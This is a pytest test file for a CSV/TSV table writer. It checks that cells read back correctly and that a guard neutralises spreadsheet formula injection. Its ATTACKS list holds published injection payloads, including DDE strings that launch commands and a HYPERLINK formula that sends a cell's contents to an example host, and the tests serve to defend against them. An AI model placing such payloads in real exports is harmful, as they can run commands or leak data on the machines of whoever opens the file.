"""CSV and TSV, read back by the csv module and by pandas."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.formats import Table, write
from kb.formats.guard import guarded

# Payloads as published for tests of this fault: formulas, DDE, after blanks and apostrophes, full-width, by control characters.
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"go")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "-",
    "=",
    "\0=1+1",
]
NUMBERS = ["-1.5", "-12", "+3", "0", "60.00", "-0.00"]
HARMLESS = ["NCT04284787", "1=1", "a-b", "a@b", "'tis", "", "(-1)", "–1", "anti-PD-1", "< -3"]
STARTS = re.compile(r"[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def read_csv(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode(), newline=""), strict=True))


def read_pandas(text: bytes, **how: Any) -> list[list[str]]:
    frame = pandas.read_csv(io.BytesIO(text), dtype=str, na_filter=False, skip_blank_lines=False, **how)
    return [list(frame.columns), *frame.values.tolist()]


def same(found: str, cell: object) -> bool:
    """Whether a text read back is the cell; an apostrophe may stand before a formula."""
    if isinstance(cell, bool):
        return found == ("yes" if cell else "no")
    if isinstance(cell, int | Decimal):
        return Decimal(found).as_tuple() == Decimal(cell).as_tuple()
    text = "" if cell is None else "|".join(cell) if isinstance(cell, tuple) else str(cell)
    return found == text or (found == f"'{text}" and bool(re.match(r"'*[\s\0]*[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]", text)))


@given(st.data())
def test_csv_comes_back(tables: st.SearchStrategy[Table], data: st.DataObject) -> None:
    table = data.draw(tables)
    written = write(table, "csv")
    for found in (read_csv(written), read_pandas(written)):
        assert found[0] == [column.name for column in table.columns]
        assert len(found) == 1 + len(table.rows)
        for line, row in zip(found[1:], table.rows, strict=True):
            assert all(same(text, cell) for text, cell in zip(line, row, strict=True)), (line, row)


@given(st.data())
def test_tsv_comes_back_with_blanks_for_breaks(tables: st.SearchStrategy[Table], data: st.DataObject) -> None:
    table = data.draw(tables)
    written = write(table, "tsv")
    blanked = [[re.sub(r"\r\n|[\t\r\n\u2028\u2029]", " ", c) if isinstance(c, str) else c for c in row] for row in table.rows]
    lines = written.decode().split("\n")
    assert lines.pop() == ""
    for found in ([line.split("\t") for line in lines], read_pandas(written, sep="\t", quoting=csv.QUOTE_NONE)):
        assert len(found) == 1 + len(table.rows)
        for line, row in zip(found[1:], blanked, strict=True):
            assert all(same(text, cell) for text, cell in zip(line, row, strict=True)), (line, row)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("format_name", ["csv", "tsv"])
def test_no_cell_begins_like_a_formula(attack: str, format_name: str, one_column: Callable[..., Table]) -> None:
    written = write(one_column(attack, (attack, "x")), format_name)
    cells = [line[0] for line in read_csv(written)] if format_name == "csv" else written.decode().split("\n")
    for cell in cells:
        assert not STARTS.match(cell), cell


@pytest.mark.parametrize("text", NUMBERS + HARMLESS)
def test_numbers_and_harmless_text_are_left_alone(text: str, one_column: Callable[..., Table]) -> None:
    assert read_csv(write(one_column(text, "end"), "csv"))[1] == [text]


def test_negative_numbers_stay_numbers(one_column: Callable[..., Table]) -> None:
    assert write(one_column(Decimal("-1.50"), -3), "csv") == b"cell\r\n-1.50\r\n-3\r\n"


@given(st.data())
def test_the_guard_never_makes_two_texts_one(texts: st.SearchStrategy[str], data: st.DataObject) -> None:
    text = data.draw(texts | st.text("'=-1", max_size=5))
    other = data.draw(st.sampled_from([f"'{text}", text.removeprefix("'"), f"''{text}"]) | texts)
    assert (guarded(text) == guarded(other)) == (text == other)


@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_golden(name: str, example: Table, golden: Callable[[str, bytes], None]) -> None:
    golden(f"example.{name}", write(example, name))


def test_header_only_without_rows(bare: Table) -> None:
    assert write(bare, "csv") == b"study\r\n"
    assert write(bare, "tsv") == b"study\n"
